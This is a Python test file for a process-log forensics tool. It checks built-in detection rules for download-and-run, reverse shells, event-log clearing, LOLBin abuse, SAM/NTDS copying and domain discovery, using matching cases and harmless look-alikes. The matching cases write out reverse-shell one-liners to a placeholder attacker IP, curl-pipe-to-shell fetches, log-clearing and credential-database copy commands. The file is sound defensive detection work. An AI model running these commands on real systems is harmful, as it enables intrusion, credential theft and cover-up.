"""The built-in detections an analyst's first hour relies on: download-and-run, reverse
shells, log clearing, LOLBins, domain discovery (Sigma rules under store/detect/rules) and
discovery bursts (store/detect/bursts.py), on their own cases, the demo and real samples."""

from __future__ import annotations

from collections import Counter
from pathlib import Path

import pytest
from test_detect import BUILTIN_CASES

from proctrail.store.correlate import correlate
from proctrail.store.db import open_engine
from proctrail.store.detect import bursts
from proctrail.store.detect.bursts import discovery_command, find_bursts, span
from proctrail.store.detect.run import BUILTIN, detect
from proctrail.store.detect.sigma import load_rules
from proctrail.store.findings import add_finding
from proctrail.store.ingest import Ingestor
from proctrail.store.queries import export_findings, export_processes

W = r"C:\Windows\System32" + "\\"


def _win(image: str, cmd: str, parent: str = W + "cmd.exe") -> dict[str, str]:
    return {"Image": W + image, "CommandLine": cmd, "ParentImage": parent}


def _lnx(image: str, cmd: str) -> dict[str, str]:
    return {"Image": image, "CommandLine": cmd, "ParentImage": "/usr/bin/bash"}


# title -> (events it must match, look-alikes it must not)
CASES: dict[str, tuple[list[dict[str, str]], list[dict[str, str]]]] = {
    "Downloaded Script Piped Straight Into a Shell": (
        [_lnx("/usr/bin/bash", "bash -c curl -fsSL http://203.0.113.7/i.sh | sh"),
         _lnx("/bin/sh", "sh -c wget -qO- https://x.example/a | sudo bash"),
         _lnx("/bin/sh", "sh -c curl -s http://x/a -o /tmp/a; sh /tmp/a"),
         _lnx("/bin/sh", "sh -c wget http://x/a -O /tmp/a && chmod +x /tmp/a && ./a")],
        [_lnx("/usr/bin/curl", "curl -s https://api.example.com/v1 | jq .name"),
         _lnx("/bin/sh", "sh -c curl -o pkg.tar.gz https://x/p.tgz && tar xzf pkg.tar.gz"),
         _lnx("/usr/bin/bash", "bash install.sh")]),
    "Curl or Wget Fetches From a Bare IP Address": (
        [_lnx("/usr/bin/curl", "curl -s http://203.0.113.7/i.sh"),
         _lnx("/usr/bin/wget", "wget -q https://198.51.100.9:8443/x -O /tmp/x")],
        [_lnx("/usr/bin/curl", "curl -s http://127.0.0.1:9100/metrics"),
         _lnx("/usr/bin/curl", "curl http://10.1.2.3/health"),
         _lnx("/usr/bin/wget", "wget https://deb.debian.org/debian/pool/x.deb"),
         _lnx("/usr/bin/python3", "python3 fetch.py http://203.0.113.7/")]),
    "Reverse Shell One-liner": (
        [_lnx("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
         _lnx("/usr/bin/nc.traditional", "nc -e /bin/sh 203.0.113.7 4444"),
         _lnx("/usr/bin/ncat", "ncat 203.0.113.7 443 --sh-exec bash"),
         _lnx("/bin/sh", "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 "
                         "4444 >/tmp/f"),
         _lnx("/usr/bin/python3.11", "python3 -c import socket,subprocess,os;s=socket.socket("
                                     ");s.connect(('203.0.113.7',4444));os.dup2(s.fileno(),0)"),
         _lnx("/usr/bin/perl", "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin"
                               "/sh -i\");"),
         _lnx("/usr/bin/php8.2", "php -r $s=fsockopen(\"203.0.113.7\",4444);shell_exec(\"sh\");"),
         _lnx("/usr/bin/socat", "socat tcp-connect:203.0.113.7:4444 exec:'bash -li',pty")],
        [_lnx("/usr/bin/nc", "nc -zv db01 5432"),
         _lnx("/usr/bin/nc", "nc -l -p 4444"),
         _lnx("/usr/bin/python3", "python3 -c import socket;print(socket.gethostname())"),
         _lnx("/usr/bin/mkfifo", "mkfifo /run/app/pipe"),
         _lnx("/usr/bin/socat", "socat TCP-LISTEN:8080,fork TCP:localhost:80")]),
    "Windows Event Log Cleared From the Command Line": (
        [_win("wevtutil.exe", "wevtutil cl Security"),
         _win("wevtutil.exe", '"C:\\WINDOWS\\system32\\wevtutil.exe" clear-log System'),
         _win(r"WindowsPowerShell\v1.0\powershell.exe", "powershell Clear-EventLog -LogName "
              "Security"),
         _win(r"WindowsPowerShell\v1.0\powershell.exe", "powershell [System.Diagnostics."
              "Eventing.Reader.EventLogSession]::GlobalSession.ClearLog('Security')")],
        [_win("wevtutil.exe", "wevtutil qe Security /c:5"),
         _win("wevtutil.exe", "wevtutil get-log Security"),
         _win("wevtutil.exe", "wevtutil set-log Security /ms:1048576"),
         _win(r"WindowsPowerShell\v1.0\powershell.exe", "powershell Get-EventLog -List")]),
    "Certutil Downloads or Decodes a File": (
        [_win("certutil.exe", "certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe"),
         _win("certutil.exe", "certutil.exe /verifyctl /f https://x.example/p.txt"),
         _win("certutil.exe", "certutil -decode payload.b64 payload.dll")],
        [_win("certutil.exe", "certutil -verify C:\\certs\\server.cer"),
         _win("certutil.exe", "certutil -urlcache * delete"),
         _win("certutil.exe", "certutil -addstore -f root cert.cer"),
         _win("cmd.exe", "cmd /c echo certutil -urlcache -f http://x/a")]),
    "Bitsadmin Transfers a File From the Web": (
        [_win("bitsadmin.exe", "bitsadmin /transfer j /download https://x.example/a.exe "
              "C:\\Users\\Public\\a.exe"),
         _win("bitsadmin.exe", "bitsadmin /addfile job http://203.0.113.7/a C:\\a")],
        [_win("bitsadmin.exe", "bitsadmin /list /allusers"),
         _win("bitsadmin.exe", "bitsadmin /complete job")]),
    "Rundll32 Runs a Program or URL Through a Windows DLL Export": (
        [_win("rundll32.exe", "rundll32.exe url.dll,FileProtocolHandler calc.exe"),
         _win("rundll32.exe", "rundll32 advpack.dll,LaunchINFSection C:\\Temp\\x.inf,,1,"),
         _win("rundll32.exe", "rundll32.exe zipfldr.dll,RouteTheCall C:\\Temp\\x.exe")],
        [_win("rundll32.exe", "rundll32.exe url.dll,FileProtocolHandler https://example.com/",
              parent="C:\\Windows\\explorer.exe"),
         _win("rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL desk.cpl"),
         _win("rundll32.exe", "rundll32.exe C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracks"
              "ByProcess 255")]),
    "Msiexec Silently Installs a Package From the Web": (
        [_win("msiexec.exe", "msiexec /q /i http://203.0.113.7/p.msi"),
         _win("msiexec.exe", "msiexec.exe /i https://x.example/a.msi /quiet")],
        [_win("msiexec.exe", "msiexec /i C:\\pkgs\\agent.msi /qn"),
         _win("msiexec.exe", "msiexec /i https://x.example/a.msi"),
         _win("msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V")]),
    "InstallUtil or MSBuild Runs Code From a User-writable Folder": (
        [_win(r"..\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe",
              r"MSBuild.exe C:\Windows\Tasks\pshell.xml"),
         _win(r"..\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe",
              r"InstallUtil.exe /u C:\Users\bob\AppData\Local\Temp\x.dll"),
         _win(r"..\Microsoft.NET\Framework\v4.0.30319\InstallUtil.exe",
              "InstallUtil.exe /logfile= /LogToConsole=false /U AllTheThings.dll")],
        [_win(r"..\MSBuild\Current\Bin\MSBuild.exe", r"MSBuild.exe C:\src\app\app.sln"),
         _win(r"..\MSBuild\Current\Bin\MSBuild.exe", r"MSBuild.exe /nodemode:1",
              parent=r"C:\Program Files\Microsoft Visual Studio\devenv.exe"),
         _win(r"..\InstallUtil.exe", r"InstallUtil.exe C:\Program Files\Svc\svc.exe")]),
    "Active Directory or SAM Database Copied With esentutl or ntdsutil": (
        [_win("esentutl.exe", r"esentutl.exe /y /vss C:\windows/system32/config/SAM /d C:\t\SAM"),
         _win("esentutl.exe", r"esentutl /y C:\Windows\NTDS\ntds.dit /d C:\t\n.dit"),
         _win("ntdsutil.exe", 'ntdsutil "ac i ntds" "ifm" "create full C:\\t" q q')],
        [_win("esentutl.exe", r"esentutl /y C:\data\app.edb /d C:\backup\app.edb"),
         _win("esentutl.exe", r"esentutl /g C:\Windows\NTDS\ntds.dit"),
         _win("ntdsutil.exe", 'ntdsutil "metadata cleanup" q')]),
    "Domain Admins, Domain Controllers or Trusts Enumerated": (
        [_win("net.exe", 'net group "domain admins" /domain'),
         _win("net1.exe", 'C:\\windows\\system32\\net1 group "Enterprise Admins" /domain'),
         _win("nltest.exe", "nltest /dclist:corp"),
         _win("nltest.exe", "nltest /domain_trusts /all_trusts"),
         _win("dsquery.exe", 'dsquery * -filter "(objectClass=trustedDomain)" -attr *')],
        [_win("net.exe", "net group /domain"),
         _win("net.exe", 'net localgroup administrators'),
         _win("nltest.exe", "nltest /sc_query:corp"),
         _win("dsquery.exe", "dsquery user -name bob")]),
}


def test_every_builtin_rule_has_cases_tags_and_an_explanation() -> None:
    rules, refused = load_rules([BUILTIN])
    assert not refused
    titles = {r.title for r in rules}
    assert titles == set(CASES) | set(BUILTIN_CASES) and not set(CASES) & set(BUILTIN_CASES)
    assert len({r.id for r in rules}) == len(rules)
    for r in rules:
        text = Path(r.path).read_text()
        assert Path(r.path).name.startswith("proctrail_") and "\ndescription: " in text
        assert r.level in ("medium", "high", "critical"), r.title
        assert any(t.startswith("attack.t1") for t in r.tags), r.title


@pytest.mark.parametrize("title", sorted(CASES))
def test_rule_true_and_false_cases(title: str) -> None:
    rule = next(r for r in load_rules([BUILTIN])[0] if r.title == title)
    hits, misses = CASES[title]
    assert [h["CommandLine"] for h in hits if not rule.match(h)] == []
    assert [m["CommandLine"] for m in misses if rule.match(m)] == []


def test_discovery_commands_are_told_from_look_alikes() -> None:
    named = {(W + "whoami.exe", "whoami /all"): "whoami",
             (W + "net1.exe", "net1 group \"domain admins\" /domain"): "net group",
             (W + "net.exe", "net /domain user"): "net user",
             (W + "net.exe", r"net use \\srv\c$"): None,
             (W + "query.exe", "query user"): "quser",
             (W + "ARP.EXE", "arp -a"): "arp -a",
             (W + "ROUTE.EXE", "route print"): "route print",
             (W + "ROUTE.EXE", "route add 10.0.0.0 mask 255.0.0.0 10.1.1.1"): None,
             (W + r"WindowsPowerShell\v1.0\powershell.exe",
              "powershell Get-ADComputer -Filter *"): "Get-ADComputer",
             (W + r"WindowsPowerShell\v1.0\powershell.exe", "powershell Get-Date"): None,
             ("/usr/bin/id", "id"): "id", ("/usr/bin/id", "id -u"): None,
             ("/usr/bin/uname", "uname -a"): "uname -a", ("/usr/bin/uname", "uname -r"): None,
             ("/usr/sbin/ip", "ip a"): "ip a", ("/usr/sbin/ip", "ip route"): None,
             ("/usr/bin/cat", "cat /etc/passwd"): "cat /etc/passwd",
             ("/usr/bin/cat", "cat notes.txt"): None, ("/usr/bin/w", "w"): "w",
             ("/usr/bin/whoami", "whoami"): "whoami", ("/usr/bin/ls", "ls -la"): None}
    assert {k: discovery_command(*k) for k in named} == named
    assert (span(134_000_000), span(45_000_000), span(3_720_000_000)) == (
        "2m14s", "45s", "1h02m")


def test_demo_story_is_found_by_the_builtin_rules(demo_case) -> None:
    """Every step of the demo's intrusion that a process start shows has a finding."""
    report = detect(demo_case)
    procs = {p["id"]: p for p in export_processes(demo_case)}
    found = Counter((f["rule_title"], f["host"].split(".")[0],
                     procs[f["process_id"]]["image"].replace("\\", "/").rsplit("/", 1)[-1])
                    for f in export_findings(demo_case) if f["kind"] == "rule")
    assert found == Counter({
        ("Office Application Starts a Shell or Script Host", "WS01", "powershell.exe"): 1,
        ("PowerShell With a Hidden Window or an Encoded Command", "WS01", "powershell.exe"): 1,
        ("Regsvr32 Runs a Remote or Scriptlet COM Object (Squiblydoo)", "WS01",
         "regsvr32.exe"): 1,
        ("Command-line FTP Runs a Script File", "WS01", "ftp.exe"): 1,
        ("Program Runs From a Folder That Holds No Programs", "WS01", "updater.exe"): 1,
        ("Run Key Written With reg add", "WS01", "reg.exe"): 1,
        ("Domain Admins, Domain Controllers or Trusts Enumerated", "WS02", "net.exe"): 1,
        ("Domain Admins, Domain Controllers or Trusts Enumerated", "WS02", "nltest.exe"): 1,
        ("Windows Event Log Cleared From the Command Line", "WS02", "wevtutil.exe"): 1,
        ("Curl or Wget Fetches From a Bare IP Address", "lnx01", "curl"): 1,
        ("Reverse Shell One-liner", "lnx01", "python3.11"): 1})
    assert report.by_rule["discovery burst"] == 1  # WS02's five commands; lnx01 has three


def test_discovery_bursts_on_the_demo(demo_case, monkeypatch: pytest.MonkeyPatch) -> None:
    """The demo's reconnaissance on WS02 (five commands in 80 s) is a burst at the default
    bar of four; lnx01's three are one once three are enough; findings of kind burst are
    replaced by the next pass."""
    ws02 = ("discovery burst: 5 commands in 1m20s: whoami, net group, nltest, ipconfig, "
            "systeminfo", 5)
    with demo_case.connect() as conn:
        assert [(b.note, b.runs) for b in find_bursts(conn)] == [ws02]
        found = list(find_bursts(conn, min_distinct=3))
        assert [(b.note, b.runs) for b in found] == [
            ws02, ("discovery burst: 3 commands in 10s: id, uname -a, cat /etc/passwd", 3)]
        assert [b.image for b in found] == [W + "whoami.exe", "/usr/bin/id"]
        assert all(t in found[0].tags for t in ("attack.t1069", "attack.t1016", "attack.t1082"))
        assert "attack.t1082" in found[1].tags
        # Without nltest WS02 still ran four; without systeminfo too, three: no burst.
        ignored = list(find_bursts(conn, lambda image: not image.endswith("nltest.exe")))
        assert [b.names for b in ignored] == [["whoami", "net group", "ipconfig", "systeminfo"]]
        assert list(find_bursts(conn, lambda image: not image.endswith(
            ("nltest.exe", "systeminfo.exe")))) == []
    assert detect(demo_case).by_rule["discovery burst"] == 1
    add_finding(demo_case, "process", next(p["id"] for p in export_processes(demo_case)),
                "kept", author="ana")
    monkeypatch.setattr(bursts, "MIN_DISTINCT", 3)
    for _ in range(2):
        report = detect(demo_case)
    marked = [f for f in export_findings(demo_case) if f["kind"] == "burst"]
    procs = {p["id"]: p for p in export_processes(demo_case)}
    assert report.by_rule["discovery burst"] == 2 and len(marked) == 2
    assert sorted((procs[f["process_id"]]["command_line"], f["level"]) for f in marked) == [
        ("id", "medium"), ("whoami /all", "medium")]
    assert {f["host"] for f in marked} == {"WS02.corp.example", "lnx01"}
    assert [f["summary"] for f in export_findings(demo_case) if f["kind"] == "bookmark"] == [
        "kept"]
    assert len(list(find_bursts(demo_case.connect(), window_us=5_000_000,
                                min_distinct=3))) == 0  # 20 s and 5 s apart: too slow


def test_builtin_rules_on_real_attack_logs(samples: Path, tmp_path: Path) -> None:
    """Public attack captures and SigmaHQ regression logs: which rule marks which process,
    and nothing in them is a discovery burst (their recon is at most three commands)."""
    reg = samples / "sigma/regression_data/rules/windows/process_creation"
    files = [samples / "extra/win/sliver-security.evtx",
             samples / "evtx-attack-samples/Execution/"
                       "exec_sysmon_1_11_lolbin_rundll32_openurl_FileProtocolHandler.evtx",
             samples / "otrf/cmd_sam_copy_esentutl.zip",
             samples / "otrf/covenant_installutil.zip",
             samples / "otrf/empire_shell_rpc_samr_smb_group_domain_admins_standard_user.zip",
             *sorted((reg / "proc_creation_win_certutil_download").glob("*.evtx")),
             *sorted((reg / "proc_creation_win_bitsadmin_download_direct_ip").glob("*.evtx")),
             *sorted((reg / "proc_creation_win_dsquery_domain_trust_discovery").glob("*.evtx"))]
    engine = open_engine(f"sqlite:///{tmp_path / 'real.db'}")
    Ingestor(engine).run([str(f) for f in files])
    correlate(engine)
    report = detect(engine)
    procs = {p["id"]: p for p in export_processes(engine)}
    found = Counter((f["rule_title"], procs[f["process_id"]]["image"].rsplit("\\", 1)[-1])
                    for f in export_findings(engine)
                    if f["kind"] == "rule" and f["rule_title"] in CASES)
    assert found == Counter({
        ("Windows Event Log Cleared From the Command Line", "wevtutil.exe"): 5,
        ("Rundll32 Runs a Program or URL Through a Windows DLL Export", "rundll32.exe"): 5,
        ("Active Directory or SAM Database Copied With esentutl or ntdsutil",
         "esentutl.exe"): 1,
        ("InstallUtil or MSBuild Runs Code From a User-writable Folder", "InstallUtil.exe"): 1,
        ("Domain Admins, Domain Controllers or Trusts Enumerated", "net.exe"): 1,
        ("Domain Admins, Domain Controllers or Trusts Enumerated", "net1.exe"): 1,
        ("Domain Admins, Domain Controllers or Trusts Enumerated", "dsquery.exe"): 1,
        ("Certutil Downloads or Decodes a File", "certutil.exe"): 1,
        ("Bitsadmin Transfers a File From the Web", "bitsadmin.exe"): 1})
    assert report.by_rule["discovery burst"] == 0
    cleared = [procs[f["process_id"]]["command_line"] for f in export_findings(engine)
               if f["rule_title"] == "Windows Event Log Cleared From the Command Line"]
    assert sorted(c.rsplit(" ", 1)[-1].lower() for c in cleared) == [
        'application', 'defender/operational"', "microsoft-windows-sysmon/operational",
        "security", "system"]
